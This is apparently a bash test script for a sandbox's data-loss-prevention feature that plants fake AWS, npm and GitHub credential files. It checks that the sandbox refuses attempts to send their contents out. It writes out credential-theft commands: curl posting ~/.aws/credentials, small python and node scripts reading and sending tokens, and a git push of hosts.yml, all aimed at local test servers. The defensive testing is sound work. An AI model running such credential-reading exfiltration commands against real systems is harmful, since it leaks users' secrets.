#!/usr/bin/env bash
# Canary files (ADR 0148, docs/dlp.md): with canary_tokens, a fake
# ~/.aws/credentials, ~/.npmrc and ~/.config/gh/hosts.yml stand inside the
# sandbox where the real ones are hidden, each with canaries of its own.
# Real clients that read one and send its value are refused, and the
# refusal and the event name the file: curl (the AWS file as a body),
# python (the npm token in JSON), node (the GitHub token in a header), and
# git push of a commit holding hosts.yml to a local smart-HTTP server. The
# user's real file is never shown; without canary_tokens there is no fake.
if [ -f "${CAN_SRCDIR}/test/lib.sh" ]; then . "${CAN_SRCDIR}/test/lib.sh"; else . "${CAN_SRCDIR}/lib.sh"; fi
. "$CAN_SRCDIR/test/proxy_lib.sh"
t_drop_to_user "$CAN_SRCDIR/test/proxy_lib.sh" "$CAN_SRCDIR/test/dlp_server.py" \
	"$CAN_SRCDIR/test/dlp_git_server.py"

pl_workdir candlpcf
pl_dlp_origin
pl_git_origin
# The user's real AWS file: hidden inside (base.toml's deny), read by the
# supervisor as a secret.
REAL=real-aws-secret-$RANDOM$RANDOM$RANDOM
mkdir -p "$HOME/.aws"
[ -e "$HOME/.aws/credentials" ] && cp "$HOME/.aws/credentials" "$TOP/aws.saved"
printf '[default]\naws_access_key_id = AKIAREALREALREAL1234\naws_secret_access_key = %s\n' "$REAL" \
	>"$HOME/.aws/credentials"
cleanup() {
	kill "${PL_PIDS[@]}" 2>/dev/null
	rm -f "$HOME/.aws/credentials"
	[ -e "$TOP/aws.saved" ] && cp "$TOP/aws.saved" "$HOME/.aws/credentials"
	rm -rf "$TOP"
}
trap cleanup EXIT
pl_recipe canary.toml loopback "canary_tokens = true"
pl_recipe plain.toml loopback
EV=$TOP/events.jsonl
inside() { "$CAN" run --events "$EV" -r ./canary.toml -- "$@"; }

t_run inside sh -c 'cat ~/.aws/credentials ~/.npmrc ~/.config/gh/hosts.yml'
t_grep "a fake ~/.aws/credentials inside" '^aws_access_key_id = AKIA[A-Z2-7]{16}$' "$T_OUT"
t_grep "a fake ~/.npmrc inside" '^//npm.internal.example/:_authToken=npm_[A-Za-z0-9]{36}$' "$T_OUT"
t_grep "a fake ~/.config/gh/hosts.yml inside" '^    oauth_token: ghp_[A-Za-z0-9]{36}$' "$T_OUT"
t_nogrep "the user's real AWS file is not shown" "$REAL|AKIAREAL" "$T_OUT"
t_nogrep "the canaries differ from the environment's" "$(inside printenv GITHUB_TOKEN)" "$T_OUT"
t_run "$CAN" run -r ./plain.toml -- sh -c 'cat ~/.aws/credentials; ls -a ~/.config/gh 2>&1'
t_nogrep "without canary_tokens: no fake file" 'AKIA|oauth_token' "$T_OUT"

# curl: the AWS file as a body
t_run inside curl -sS -m 20 -D - --data-binary @"$HOME/.aws/credentials" "http://$H/v1/leak-aws"
pl_refused "curl sends the fake AWS file"
t_grep "... named as the canary of ~/.aws/credentials" 'canary \(canary file ~/.aws/credentials\) in body' "$T_OUT"
t_grep "... said loudly" 'A CANARY TOKEN \(canary file ~/.aws/credentials\) was sent to host.canister.local' "$T_ERR"
# python: the npm token in a JSON body
cat >leak.py <<'PY'
import json, os, sys, urllib.request, urllib.error
tok = open(os.path.expanduser("~/.npmrc")).read().split("_authToken=")[1].strip()
req = urllib.request.Request(sys.argv[1], data=json.dumps({"token": tok}).encode(),
                             headers={"Content-Type": "application/json"})
try:
    print(urllib.request.urlopen(req, timeout=20).status)
except urllib.error.HTTPError as e:
    print(e.code, e.headers.get("x-canister-error"), e.read().decode())
PY
t_run inside python3 leak.py "http://$H/v1/leak-npm"
t_grep "python sends the fake ~/.npmrc token: 403 dlp-blocked" '^403 dlp-blocked .*canary \(canary file ~/.npmrc\)' "$T_OUT"
# node: the GitHub token in a header (node's own clients do not read HTTP_PROXY)
cat >leak.js <<'JS'
const fs = require("fs"), http = require("http");
const tok = /oauth_token: (\S+)/.exec(fs.readFileSync(process.env.HOME + "/.config/gh/hosts.yml", "utf8"))[1];
const proxy = new URL(process.env.HTTP_PROXY);
http.get({ host: proxy.hostname, port: proxy.port, path: "http://" + process.argv[2] + "/v1/leak-gh",
	headers: { Host: process.argv[2], Authorization: "token " + tok } }, (res) => {
	let out = "";
	res.on("data", (d) => (out += d));
	res.on("end", () => console.log(res.statusCode, res.headers["x-canister-error"], out));
});
JS
t_run inside node leak.js "$H"
t_grep "node sends the fake hosts.yml token: 403 dlp-blocked" \
	'^403 dlp-blocked .*canary \(canary file ~/.config/gh/hosts.yml\) in header authorization' "$T_OUT"
# git push of a commit that holds the fake hosts.yml
GITC="-c user.name=t -c user.email=t@t"
t_run inside sh -c "git clone -q http://$G/repo.git work && cd work && cp ~/.config/gh/hosts.yml . && git add hosts.yml && git $GITC commit -qm leak && git push -q origin HEAD"
t_grep "git push of the fake hosts.yml: refused" \
	'refused POST .*canary \(canary file ~/.config/gh/hosts.yml\) in body' "$T_ERR"
t_grep "... the origin repository does not have it" '^init$' \
	"$(git -C "$GIT_REPO" log -1 --format=%s main)"
t_grep "the origin never saw a fake value" '^0$' "$(grep -Ec 'AKIA|npm_|ghp_' "$DLP_LOG")"
t_grep "--events names the canary file" '"reason":"dlp: canary \(canary file ~/.npmrc\)' "$(cat "$EV" 2>/dev/null)"
t_nogrep "--events holds no canary value" 'npm_[A-Za-z0-9]{36}|ghp_[A-Za-z0-9]{36}' "$(cat "$EV" 2>/dev/null)"
t_done
